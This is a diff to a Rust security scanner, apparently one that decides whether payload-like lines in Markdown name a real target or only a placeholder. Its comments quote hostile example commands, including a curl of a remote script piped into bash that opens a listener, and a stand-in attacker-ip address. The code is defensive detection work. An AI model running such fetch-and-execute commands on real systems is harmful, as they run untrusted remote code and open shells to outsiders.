@@ -787,6 +787,22 @@ fn has_placeholder(text: &str) -> bool {
     })
 }
 
+/// Whether an address on the line has a host with no placeholder in it
+/// (`curl https://dl.tools.dev/a.sh | bash -s -- --listen <port>`): the
+/// payload has a real target, whatever else the line leaves blank
+/// (holes43). `https://<attacker-ip>/x`, `http://api.example.com/` and
+/// `https://HOST:8443/` are still blanks.
+fn names_a_real_host(text: &str) -> bool {
+    text.match_indices("://").any(|(at, _)| {
+        let rest = &text[at + 3..];
+        let host = rest
+            .split(|c: char| matches!(c, '/' | '?' | '#' | '"' | '\'' | '`') || c.is_whitespace())
+            .next()
+            .unwrap_or_default();
+        host.contains('.') && !PLACEHOLDERS.is_match(&text[at + 2..at + 3 + host.len()])
+    })
+}
+
 /// Whether a comment line of a script names its target by a placeholder
 /// only (`#   curl -fsSL <script_url> | bash`, a script's usage comment,
 /// the sixteenth sweep's `publisher-multi-platform`): a comment runs
@@ -1195,7 +1211,7 @@ fn judge(
     let markdown = kind == Kind::Markdown;
     let prose = !matches!(region, Region::Code(_));
     if markdown && rule.class.is_payload() {
-        if has_placeholder(text) {
+        if has_placeholder(text) && !names_a_real_host(text) {
             soften(
                 hit,
                 "written with a placeholder target, so it explains rather than arms",
@@ -2115,6 +2131,9 @@ fn service_of(rule: &Rule, regex: &BytesRegex, lines: &Lines, line: usize) -> Op
         }
         Signal::Sink => {
             let target = sink_target(lines, line)?;
+            if urlhost::reroutes(text) || urlhost::reroutes(target) {
+                return None;
+            }
             match api_service(target) {
                 Some(service) => Some(Bound::Service(service.name)),
                 None => urlhost::one_site(target).map(Bound::Site),
